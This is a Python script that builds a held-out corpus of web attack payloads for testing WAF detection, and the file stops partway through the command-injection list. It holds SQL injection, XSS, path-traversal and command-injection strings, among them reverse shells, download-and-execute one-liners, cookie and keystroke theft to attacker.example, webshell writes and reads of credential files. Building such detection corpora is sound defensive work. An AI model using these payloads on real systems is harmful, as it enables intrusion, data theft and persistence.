#!/usr/bin/env python3
"""Generate attacks.jsonl -- held-out attack corpus for WAF detection testing.

Standard library only, deterministic (random.Random(12)).
All payloads are composed here by hand or assembled from hand-written parts.
Hosts/IPs use documentation ranges (203.0.113.0/24, *.example) on purpose.
"""
import base64
import json
import os
import random
import re
from urllib.parse import quote

R = random.Random(12)
HERE = os.path.dirname(os.path.abspath(__file__))
TARGETS = {"sqli": 90, "xss": 90, "traversal": 110, "cmdi": 110, "code": 100}
C2 = "203.0.113.9"


def b64(s):
    return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def ps_enc(s):
    """PowerShell -EncodedCommand uses UTF-16LE base64."""
    return base64.b64encode(s.encode("utf-16-le")).decode()


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def urlenc(s):
    return quote(s, safe="")


def urlenc_min(s):
    return quote(s, safe="/:=,()*@$!-_.~")


def double_urlenc(s):
    return quote(quote(s, safe=""), safe="")


def plus_spaces(s):
    return s.replace("%", "%25").replace("+", "%2B").replace(" ", "+").replace("#", "%23").replace("&", "%26")


def mixed_case(s):
    out = []
    for ch in s:
        if ch.isalpha() and R.random() < 0.5:
            out.append(ch.swapcase())
        else:
            out.append(ch)
    return "".join(out)


def _rand_case(m):
    return "".join(c.swapcase() if c.isalpha() and R.random() < 0.5 else c for c in m.group(0))


SQL_KW = re.compile(r"(?<!')\b(select|union|all|from|where|and|or|not|null|order|by|group|having|limit|insert|into|values|update|set|"
                    r"delete|drop|table|exec|waitfor|delay|sleep|if|case|when|then|else|end|like|between|cast|convert|concat|"
                    r"substring|substr|ascii|char|declare|benchmark|extractvalue|updatexml|load_file|outfile|copy|program)\b(?!')", re.I)
HTML_NAMES = re.compile(r"</?[a-zA-Z]+|\bon[a-z]+(?=\s*=)|javascript(?=:)|\b(?:src|href|srcdoc|formaction|autofocus|style|data)(?==)")


def sql_mixed_case(s):
    return SQL_KW.sub(_rand_case, s)


def html_mixed_case(s):
    return HTML_NAMES.sub(_rand_case, s)


def js_uri_entities(s):
    """Entity-encode the body of a javascript: URI (works because attribute values are entity-decoded)."""
    i = s.lower().find("javascript:")
    if i < 0:
        return s
    j = i + len("javascript")
    end = len(s)
    for stop in ('"', ">"):
        k = s.find(stop, j)
        if k != -1:
            end = min(end, k)
    body = "".join("&#%d;" % ord(c) if c in ":()'.`" else c for c in s[j:end])
    return s[:j] + body + s[end:]


def js_uri_hex_entities(s):
    i = s.lower().find("javascript:")
    if i < 0:
        return s
    j = i + len("javascript")
    return s[:j] + "&#x3a;" + s[j + 1:].replace("(", "&#x28;").replace(")", "&#x29;")


def json_unicode(s):
    if "<" not in s:
        return s
    return "".join("\\u%04x" % ord(c) if c in "<>'\"&/" else c for c in s)


TRAIL_COMMENT = re.compile(r"(--[ \t]*-?[ \t]*|#)$")


def _keep_trailing_comment(fn):
    def wrapped(s):
        m = TRAIL_COMMENT.search(s)
        if not m:
            return fn(s)
        return fn(s[:m.start()]) + s[m.start():]
    return wrapped


@_keep_trailing_comment
def comment_spaces(s):
    return s.replace(" ", "/**/")


@_keep_trailing_comment
def nl_spaces(s):
    return s.replace(" ", pick(["%0a", "%0d%0a", "%09", "%0b", "%a0"]))


@_keep_trailing_comment
def sql_plus_spaces(s):
    return plus_spaces(s)


def pick(seq):
    return R.choice(seq)


# ---------------------------------------------------------------------------
# SQLi
# ---------------------------------------------------------------------------
SQLI = [
    ("union-select", "' UNION SELECT username, password_hash FROM users-- -"),
    ("union-select-null", "0 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- "),
    ("union-group-concat", "-1' union select 1,group_concat(column_name separator 0x3a),3 from information_schema.columns where table_name='accounts'#"),
    ("boolean-blind-substring", "' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'-- "),
    ("boolean-blind-ascii", "1 AND ASCII(SUBSTR((SELECT user()),1,1))>100"),
    ("time-blind-sleep", "' AND SLEEP(5)-- -"),
    ("time-blind-if", "1' AND IF(ORD(MID(DATABASE(),1,1))>109,SLEEP(4),0)#"),
    ("time-blind-benchmark", "1' AND BENCHMARK(5000000,MD5(0x41))-- -"),
    ("pg-sleep-stacked", "'; SELECT pg_sleep(6)--"),
    ("pg-conditional-sleep", "1;SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("mssql-waitfor", "'; WAITFOR DELAY '0:0:7'--"),
    ("mssql-xp-cmdshell", "1; EXEC master..xp_cmdshell 'powershell -c \"iwr http://%s/a.ps1|iex\"'--" % C2),
    ("mssql-enable-xpcmdshell", "';EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;--"),
    ("oracle-dbms-pipe", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(97),8)--"),
    ("oracle-union-dual", "' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--"),
    ("oracle-oob-utl-inaddr", "' || UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.x.attacker.example') || '"),
    ("oracle-error-ctxsys", "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT password FROM dba_users WHERE username='SYS'))--"),
    ("oracle-div-zero-blind", "'||(SELECT CASE WHEN (SELECT SUBSTR(user,1,1) FROM dual)='S' THEN TO_CHAR(1/0) ELSE NULL END FROM dual)||'"),
    ("sqlite-master", "' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"),
    ("sqlite-randomblob-delay", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"),
    ("sqlite-attach-webshell", "'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.y(z text); INSERT INTO x.y VALUES('<?php passthru($_GET[0]);?>');--"),
    ("error-extractvalue", "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- "),
    ("error-updatexml", "' AND updatexml(null,concat(0x3a,(select user())),null)#"),
    ("error-floor-rand", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)"),
    ("pg-cast-error", "' AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)--"),
    ("mssql-convert-error", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--"),
    ("stacked-drop", "'; DROP TABLE sessions;--"),
    ("stacked-update", "1; UPDATE users SET role='admin' WHERE email='mallory@attacker.example';--"),
    ("stacked-insert", "x'); INSERT INTO admins(login,pw_hash) VALUES('svc_backup','$2y$10$Qk3p9zXw1mT8bHrL0aVfEu');--"),
    ("auth-bypass-comment", "admin'-- "),
    ("auth-bypass-or", "' OR 1=1 LIMIT 1-- -"),
    ("auth-bypass-dquote", "\" OR \"\"=\""),
    ("auth-bypass-paren", "') OR ('a'='a"),
    ("auth-bypass-hash", "admin' #"),
    ("auth-bypass-parens-nospace", "'or(1)=(1)#"),
    ("order-by-enum", "1 ORDER BY 9-- "),
    ("order-by-subquery-sleep", "name,(SELECT 1 FROM (SELECT SLEEP(3))a)"),
    ("order-by-case-blind", "(CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN id ELSE price END)"),
    ("oob-load-file-unc", "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT authentication_string FROM mysql.user LIMIT 1),'.oob.attacker.example\\\\x'))-- "),
    ("mssql-xp-dirtree-oob", "'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--"),
    ("into-outfile-webshell", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/cache/s.php'-- -"),
    ("pg-copy-program", "'; COPY (SELECT '') TO PROGRAM 'curl -s http://%s/x.sh|sh';--" % C2),
    ("pg-lo-import", "1; SELECT lo_import('/etc/passwd', 31337);--"),
    ("pg-dollar-quote", "'; CREATE TEMP TABLE t(x text); COPY t FROM $$/etc/passwd$$; SELECT string_agg(x,chr(10)) FROM t;--"),
    ("pg-shadow-blind", "' AND (SELECT substr(passwd,1,3) FROM pg_shadow WHERE usename='postgres')='md5'--"),
    ("mysql-load-file", "-7 UNION SELECT 1,LOAD_FILE('/etc/passwd'),3,4"),
    ("versioned-comment", "1'/*!50000UNION*//*!50000SELECT*/1,user(),3#"),
    ("inline-comment-ws", "'/**/UnIoN/**/SeLeCt/**/1,concat(login,0x3a,password),3/**/FrOm/**/users--"),
    ("newline-ws", "'\nunion\nselect\n1,@@version,3\n-- "),
    ("tab-ws", "'\tOR\t1=1\t--\t"),
    ("concat-pipes", "' OR 'ad'||'min'=(SELECT username FROM users WHERE id=1)--"),
    ("mssql-plus-concat", "'+(SELECT TOP 1 password FROM users)+'"),
    ("char-function", "' OR username=CHAR(97,100,109,105,110)-- "),
    ("hex-literal", "' UNION SELECT 1,password,3 FROM users WHERE username=0x61646d696e-- -"),
    ("numeric-or", "5 OR 1=1"),
    ("numeric-subquery", "5 AND (SELECT COUNT(*) FROM users WHERE username=0x726f6f74 AND LENGTH(password)>10)>0"),
    ("numeric-between-blind", "1 AND (SELECT ASCII(SUBSTRING(password,2,1)) FROM users WHERE id=1) BETWEEN 96 AND 112"),
    ("search-box-union", "laptop' UNION SELECT card_number,cvv,expiry FROM payments-- "),
    ("having-error", "' GROUP BY id HAVING 1=1--"),
    ("json-extract-fingerprint", "1' AND JSON_EXTRACT(@@version,'$') LIKE '8%'-- -"),
    ("like-wildcard-blind", "' OR password LIKE 'a%'-- "),
    ("mssql-openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address=%s,1433;uid=sa;pwd=x','SELECT 1')--" % C2),
    ("mssql-sp-executesql", "';DECLARE @q NVARCHAR(200)=CHAR(83)+CHAR(69)+'LECT name FROM sys.sql_logins';EXEC sp_executesql @q;--"),
    ("insert-values-subquery", "a', (SELECT password FROM users WHERE id=1))-- "),
    ("limit-procedure-analyse", "1 LIMIT 1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("json-field-sort", "{\"sort\":\"price desc; DELETE FROM carts--\",\"page\":1}"),
    ("backslash-quote-escape", "\\' OR 1=1-- "),
    ("unicode-apostrophe", "\u02bc OR 1=1-- "),
    ("fullwidth-normalize", "\uff07 \uff55\uff4e\uff49\uff4f\uff4e \uff53\uff45\uff4c\uff45\uff43\uff54 1,2,3-- "),
    ("mssql-stacked-shutdown", "1;SHUTDOWN WITH NOWAIT;--"),
    ("mysql-information-schema-processlist", "' UNION SELECT 1,info,3 FROM information_schema.processlist-- -"),
    ("pg-version-union", "-1 UNION SELECT version(),current_database(),inet_server_addr()::text--"),
    ("filename-field-sqli", "avatar.png' WHERE 1=0 UNION SELECT password FROM users-- .png"),
    ("sqli-in-cookie-like", "en'||(SELECT pg_sleep(4))||'"),
]
SQLI_TX = [("urlenc", urlenc), ("urlenc-min", urlenc_min), ("double-urlenc", double_urlenc), ("mixed-case", sql_mixed_case),
           ("comment-ws", comment_spaces), ("ctrl-ws", nl_spaces), ("plus-spaces", plus_spaces)]

# ---------------------------------------------------------------------------
# XSS
# ---------------------------------------------------------------------------
XSS = [
    ("script-tag-exfil", "<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("svg-onload", "<svg onload=alert(document.domain)>"),
    ("svg-onload-import", "<svg/onload=import('//attacker.example/p.js')>"),
    ("img-onerror-exfil", "<img src=x onerror=\"new Image().src='//attacker.example/?c='+encodeURIComponent(document.cookie)\">"),
    ("attr-breakout-autofocus", "\" autofocus onfocus=\"alert(document.cookie)"),
    ("attr-breakout-squote", "' onmouseover='fetch(`//attacker.example/${localStorage.getItem(\"token\")}`)"),
    ("attr-breakout-tag", "\"><svg onload=alert(1)>"),
    ("js-string-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-escaped-quote-breakout", "\\';alert(document.domain);//"),
    ("script-close-breakout", "</script><script>alert(origin)</script>"),
    ("json-in-script-breakout", "\"}</script><script>alert(document.cookie)</script>"),
    ("javascript-uri", "javascript:alert(document.cookie)"),
    ("javascript-uri-mixedcase-b64", "JaVaScRiPt:eval(atob('%s'))" % b64("fetch('//attacker.example/'+document.cookie)")),
    ("javascript-uri-tab", "java\tscript:alert(1)"),
    ("javascript-uri-entity", "&#106;&#97;vascript:alert(document.domain)"),
    ("javascript-uri-leading-ws", "   javascript:void(fetch('//x.attacker.example/'+document.cookie))"),
    ("javascript-uri-comment-newline", "javascript://example.com/%0Aalert(document.cookie)"),
    ("data-uri-html", "data:text/html;base64,%s" % b64("<script>alert(document.domain)</script>")),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.cookie)&gt;\"></iframe>"),
    ("iframe-javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("body-onload", "<body onload=\"location='//attacker.example/?'+document.cookie\">"),
    ("input-autofocus-b64", "<input autofocus onfocus=eval(atob(this.id)) id=%s>" % b64("alert(document.domain)").rstrip("=")),
    ("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("marquee-onstart", "<marquee onstart=alert(document.domain)>hi</marquee>"),
    ("a-href-javascript", "<a href=\"javascript:alert(document.cookie)\">click for prize</a>"),
    ("object-data", "<object data=\"javascript:alert(1)\"></object>"),
    ("embed-svg-data", "<embed src=\"data:image/svg+xml;base64,%s\">" % b64("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")),
    ("math-xlink", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK</maction></math>"),
    ("button-formaction", "<form><button formaction=javascript:alert(document.domain)>Submit</button></form>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("style-import-exfil", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("angular-csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("angular-csti-orderby", "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}"),
    ("vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("dom-hash", "#<img src=x onerror=alert(document.domain)>"),
    ("markdown-js-link", "[view invoice](javascript:fetch('//attacker.example/'+document.cookie))"),
    ("markdown-img-attr-breakout", "![x](https://x.test/a.png\"onerror=\"alert(1))"),
    ("urlenc-script", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("double-urlenc-svg", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("json-unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click me</text></a></svg>"),
    ("backtick-call", "<img src=x onerror=alert`1`>"),
    ("no-parens-throw", "<img src onerror=window.onerror=alert;throw document.domain>"),
    ("location-concat", "<svg onload=location='javas'+'cript:al'+'ert%28document.cookie%29'>"),
    ("script-src-remote", "<script src=//attacker.example/h.js></script>"),
    ("script-mixed-case-hash", "<ScRiPt>eval(location.hash.slice(1))</sCrIpT>"),
    ("newline-attr-sep", "<img\nsrc=x\nonerror=alert(1)>"),
    ("slash-attr-sep", "<svg/x=\">\"/onload=confirm(1)//"),
    ("textarea-breakout", "</textarea><script>alert(document.domain)</script>"),
    ("title-breakout", "</title><svg onload=alert(1)>"),
    ("style-breakout", "</style><img src=x onerror=alert(1)>"),
    ("html-comment-breakout", "--><svg onload=alert(1)><!--"),
    ("entity-in-handler", "<a href=# onclick=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">x</a>"),
    ("settimeout-string", "<img src=x onerror=setTimeout('al'+'ert(1)')>"),
    ("keylogger", "<script>document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}</script>"),
    ("phishing-form", "<form action=https://attacker.example/login method=post><p>Session expired</p><input name=user><input name=pass type=password><button>Log in</button></form>"),
    ("svg-script-post", "<svg><script>fetch('//attacker.example',{method:'POST',body:document.cookie})</script></svg>"),
    ("onpointerenter-overlay", "<div onpointerenter=\"alert(1)\" style=\"position:fixed;inset:0\">"),
    ("link-stylesheet", "<link rel=stylesheet href=//attacker.example/steal.css>"),
    ("js-template-literal", "${alert(document.domain)}"),
    ("srcset-onerror", "<img srcset=\",,,,,x\" onerror=alert(1)>"),
    ("onanimationstart", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(1)\">"),
    ("eval-fromcharcode", "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"),
    ("svg-file-content", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("js-unicode-escape-ident", "<script>\\u0061lert(document.cookie)</script>"),
    ("null-byte-in-tag", "<scr%00ipt>alert(1)</scr%00ipt>"),
    ("overlong-lt", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("contenteditable-onfocus", "<p contenteditable autofocus onfocus=alert(1)>edit me</p>"),
    ("popover-onbeforetoggle", "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>y</div>"),
    ("filename-tag-breakout", "\"><img src=x onerror=alert(1)>.png"),
    ("profile-name-script", "Bob<script>alert(1)</script>"),
    ("event-handler-onwheel", "<div onwheel=alert(document.domain) style=height:999px>scroll</div>"),
    ("import-map-hijack", "<script type=importmap>{\"imports\":{\"app\":\"https://attacker.example/app.js\"}}</script>"),
    ("jquery-html-sink", "<img src=1 onerror=$.getScript('//attacker.example/j.js')>"),
]
XSS_TX = [("urlenc", urlenc), ("double-urlenc", double_urlenc), ("mixed-case", html_mixed_case),
          ("jsuri-dec-entities", js_uri_entities), ("json-unicode", json_unicode), ("jsuri-hex-entities", js_uri_hex_entities)]

# ---------------------------------------------------------------------------
# Traversal
# ---------------------------------------------------------------------------
TRAV = [
    ("absolute-path", "/etc/passwd"),
    ("file-uri", "file:///etc/passwd"),
    ("file-uri-windows", "file:///C:/Windows/win.ini"),
    ("file-uri-localhost", "file://localhost/etc/shadow"),
    ("unc-path", "\\\\%s\\share\\payload.dll" % C2),
    ("windows-device-path", "\\\\?\\C:\\Windows\\System32\\config\\SAM"),
    ("php-filter", "php://filter/convert.base64-encode/resource=../../config/database.php"),
    ("php-filter-rot13", "php://filter/read=string.rot13/resource=/var/www/html/wp-config.php"),
    ("phar-wrapper", "phar://uploads/avatars/1842.jpg/shell.php"),
    ("zip-wrapper", "zip://../../uploads/doc.zip%23cmd.php"),
    ("zip-slip-entry", "../../../../../var/www/html/cmd.php"),
    ("zip-slip-windows", "..\\..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\upd.bat"),
    ("tomcat-semicolon", "/..;/..;/manager/html"),
    ("tomcat-semicolon-webinf", "static/..;/WEB-INF/web.xml"),
    ("nginx-alias-offbyslash", "/static../app/settings.py"),
    ("url-field-encoded", "https://cdn.example.com/static/..%2f..%2f..%2fetc%2fpasswd"),
    ("url-field-plain", "http://localhost/assets/../../../../etc/passwd"),
    ("markdown-link", "![chart](../../../../../../etc/passwd)"),
    ("json-template-path", "{\"template\":\"../../../../../etc/passwd\",\"lang\":\"en\"}"),
    ("null-byte-ext", "../../../../etc/passwd%00.png"),
    ("null-byte-literal", "../../../../etc/passwd\u0000.jpg"),
    ("proc-fd", "../../../../../proc/self/fd/3"),
    ("log-poison-include", "../../../../var/log/apache2/access.log"),
    ("git-config", "../../.git/config"),
    ("env-file", "../../../.env"),
    ("double-slash", "....//....//....//etc//passwd"),
    ("windows-ads", "..\\..\\web.config::$DATA"),
    ("backslash-mixed", "..\\/..\\/..\\/etc/passwd"),
    ("nested-backslash-strip", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("overlong-3byte", "..%e0%80%af..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
    ("overlong-dots-and-slash", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afshadow"),
    ("iis-percent-u", "..%u2215..%u2215..%u2215windows%u2215win.ini"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("aws-creds-urlenc", "..%2F..%2F..%2Froot%2F.aws%2Fcredentials"),
    ("ssh-key", "../../../../home/deploy/.ssh/id_ed25519"),
    ("jar-uri", "jar:file:///opt/app/app.war!/WEB-INF/classes/application.properties"),
    ("upload-cron-drop", "../../../../../../etc/cron.d/backup"),
    ("authorized-keys-overwrite", "../../../root/.ssh/authorized_keys"),
    ("spring-static-traversal", "/css/..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("trailing-dot-windows", "..\\..\\..\\inetpub\\wwwroot\\web.config."),
    ("utf8-fullwidth-literal", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("query-param-style", "download?file=..%2F..%2F..%2F..%2Fetc%2Fshadow"),
    ("java-classpath", "../../WEB-INF/classes/META-INF/persistence.xml"),
    ("laravel-log", "../../storage/logs/laravel.log"),
    ("docker-secret", "../../../../run/secrets/db_password"),
]
TRAV_STYLES = [
    ("dotdot-slash", "../", "/"), ("dotdot-backslash", "..\\", "\\"), ("urlenc-full", "%2e%2e%2f", "%2f"),
    ("urlenc-dots", "%2e%2e/", "/"), ("urlenc-slash", "..%2f", "%2f"), ("urlenc-upper", "%2E%2E%2F", "%2F"),
    ("double-urlenc", "%252e%252e%252f", "%252f"), ("double-urlenc-slash", "..%252f", "%252f"),
    ("overlong-slash-2byte", "..%c0%af", "%c0%af"), ("overlong-dot-2byte", "%c0%ae%c0%ae/", "/"),
    ("overlong-backslash", "..%c1%9c", "%c1%9c"), ("nested-dotdot", "....//", "/"), ("nested-dot-slash", "..././", "/"),
    ("urlenc-backslash", "..%5c", "%5c"), ("double-urlenc-backslash", "..%255c", "%255c"), ("mixed-separators", "..\\/", "/"),
    ("iis-percent-u", "%u002e%u002e%u2215", "%u2215"), ("fullwidth-slash-enc", "..%ef%bc%8f", "%ef%bc%8f"),
    ("fullwidth-literal", "\uff0e\uff0e\uff0f", "\uff0f"), ("tomcat-semicolon", "..;/", "/"), ("dot-urlenc-mix", ".%2e/", "/"),
]
UNIX_T = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "var/www/html/.env", "home/ubuntu/.aws/credentials",
          "proc/self/cmdline", "etc/kubernetes/admin.conf", "var/run/secrets/kubernetes.io/serviceaccount/token",
          "var/log/nginx/access.log", "app/config/database.yml", "usr/local/etc/php/php.ini", "etc/mysql/my.cnf",
          "opt/tomcat/conf/tomcat-users.xml", "etc/ssl/private/server.key", "root/.bash_history", "etc/hosts"]
WIN_T = ["windows/win.ini", "Windows/System32/drivers/etc/hosts", "inetpub/wwwroot/web.config", "Windows/repair/SAM",
         "Users/Administrator/.ssh/id_rsa", "boot.ini", "Windows/System32/inetsrv/config/applicationHost.config",
         "Windows/Panther/Unattend.xml", "ProgramData/MySQL/MySQL Server 8.0/my.ini"]
TRAV_PREFIX = ["", "", "", "images/", "static/img/", "uploads/", "/assets/", "https://files.example.com/download?path=",
               "/api/v1/files/", "templates/", "docs/"]


def gen_traversal():
    name, up, sep = pick(TRAV_STYLES)
    win = "\\" in sep or "5c" in sep or "9c" in sep or R.random() < 0.25
    tgt = pick(WIN_T if win else UNIX_T)
    depth = R.randint(3, 9)
    body = up * depth + tgt.replace("/", sep)
    pre = pick(TRAV_PREFIX)
    suf = ""
    if "%" in up and R.random() < 0.2:
        suf = pick(["%00", "%00.png", "%00.html", "%2500.jpg"])
    return name, pre + body + suf


# ---------------------------------------------------------------------------
# Command injection
# ---------------------------------------------------------------------------
REVSH = "bash -i >& /dev/tcp/%s/4444 0>&1" % C2
CMDI = [
    ("ifs-space", "127.0.0.1;cat${IFS}/etc/passwd"),
    ("ifs-dollar9", "x;curl$IFS$9http://%s/s|sh" % C2),
    ("brace-expansion", "localhost;{cat,/etc/shadow}"),
    ("quote-split", ";c'a't /e\"t\"c/pa''sswd"),
    ("backslash-split", "|\\w\\h\\o\\a\\m\\i"),
    ("glob-wildcard", ";/???/c?t /???/p??s??"),
    ("printf-octal", "; $(printf '\\143\\141\\164') /etc/passwd"),
    ("base64-pipe", "; echo %s | base64 -d | bash" % b64(REVSH)),
    ("var-concat", ";a=c;b=at;c=/etc/passwd;$a$b $c"),
    ("path-substring", ";cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("tab-sep", "1.1.1.1\t|\tid"),
    ("rev-string", ";$(echo 'dwssap/cte/ tac' | rev)"),
    ("xxd-hex", ";echo 636174202f6574632f706173737764 | xxd -r -p | sh"),
    ("reverse-shell-bash", "; bash -c '%s'" % REVSH),
    ("reverse-shell-nc", "| nc -e /bin/sh %s 4444" % C2),
    ("reverse-shell-mkfifo", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc %s 9001 >/tmp/f" % C2),
    ("reverse-shell-python", "; python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"%s\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'" % C2),
    ("reverse-shell-perl", "| perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"%s:1234\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'" % C2),
    ("download-exec-curl", "&& curl -fsSL http://%s/x.sh | sh" % C2),
    ("download-exec-wget", "; wget -q -O /tmp/.k http://%s/k && chmod +x /tmp/.k && /tmp/.k" % C2),
    ("oob-dns", "`nslookup $(whoami).c2.attacker.example`"),
    ("oob-curl-exfil", "$(curl -d @/etc/passwd http://%s/u)" % C2),
    ("time-sleep", "| sleep 15 #"),
    ("ping-delay", "& ping -c 20 127.0.0.1 &"),
    ("cron-persist", "; echo '* * * * * root curl -s http://%s/c|sh' >> /etc/crontab" % C2),
    ("ssh-key-persist", "; mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq7xQm2pZ0bWv attacker' >> ~/.ssh/authorized_keys"),
    ("webshell-write", "; echo '<?php system($_GET[0]);?>' > /var/www/html/u.php"),
    ("quote-breakout-single", "'; id; echo '"),
    ("quote-breakout-double", "\"; cat /etc/passwd; echo \""),
    ("quote-breakout-hash", "\" && whoami #"),
    ("subshell-dollar", "$(id)"),
    ("subshell-backtick", "`uname -a`"),
    ("newline-sep", "foo.txt\nid"),
    ("urlenc-newline", "foo.txt%0acat%20/etc/passwd"),
    ("crlf-sep", "x%0d%0auname -a"),
    ("output-redirect", "x; id > /var/www/html/static/o.txt"),
    ("filename-semicolon", "invoice.pdf; curl http://%s/i.sh | bash" % C2),
    ("filename-subshell", "photo$(wget -qO- %s/p|sh).jpg" % C2),
    ("filename-backtick", "report`id`.docx"),
    ("hostname-field", "8.8.8.8 && cat /etc/shadow"),
    ("url-field-subshell", "http://example.com/$(id)"),
    ("git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("ssh-proxycommand", "-oProxyCommand=curl %s/p|sh" % C2),
    ("tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("find-exec", "-exec sh -c 'id > /tmp/o' ;"),
    ("sendmail-X", "attacker@example.com -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("curl-arg-output", "-o /var/www/html/s.php http://%s/s.txt" % C2),
    ("zip-arg-TT", "x.zip -T -TT 'sh -c \"curl %s|sh\"'" % C2),
    ("leading-pipe-filename", "|curl %s/m|sh" % C2),
    ("perl-open-trailing-pipe", "cat /etc/passwd|"),
    ("shellshock", "() { :; }; /bin/bash -c 'curl http://%s/s|sh'" % C2),
    ("env-exfil", ";env | curl -X POST --data-binary @- http://%s/e" % C2),
    ("heredoc-write", "x;cat > /tmp/r.sh <<'EOF'\n%s\nEOF\nbash /tmp/r.sh" % REVSH),
    ("dollar-single-quote-hex", ";$'\\x63\\x61\\x74' /etc/passwd"),
    ("ifs-brace", "a||{wget,-qO-,%s/w}|sh" % C2),
    ("win-amp", "& whoami /all"),
    ("win-pipe-type", "| type C:\\Windows\\win.ini"),
    ("win-ps-encodedcommand", "&& powershell -nop -w hidden -enc %s" % ps_enc("IEX(New-Object Net.WebClient).DownloadString('http://%s/p.ps1')" % C2)),
    ("win-certutil", "| certutil -urlcache -split -f http://%s/a.exe %%TEMP%%\\a.exe & %%TEMP%%\\a.exe" % C2),
    ("win-caret", "& w^h^o^a^m^i"),
    ("win-comspec", "& %COMSPEC% /c dir C:\\Users"),
    ("win-set-concat", "& set a=who& set b=ami& call %a%%b%"),
    ("ps-iex-iwr", "; iex (iwr http://%s/p.ps1 -UseBasicParsing)" % C2),
    ("ps-subexpr-exfil", "$(Invoke-WebRequest -Uri http://%s/x -Method Post -Body (Get-Content C:\\inetpub\\wwwroot\\web.config -Raw))" % C2),
    ("ps-backtick-obfusc", "; I`E`X (N`ew-Obj`ect Net.WebClient).DownloadString('http://%s/r')" % C2),
    ("ps-string-concat", "; &('ie'+'x') ((New-Object Net.WebClient).('Download'+'String')('http://%s/r'))" % C2),
    ("win-mshta", "& mshta http://%s/x.hta" % C2),
    ("win-regsvr32", "& regsvr32 /s /n /u /i:http://%s/f.sct scrobj.dll" % C2),
    ("win-bitsadmin", "| bitsadmin /transfer j /download /priority high http://%s/b.exe C:\\Users\\Public\\b.exe" % C2),
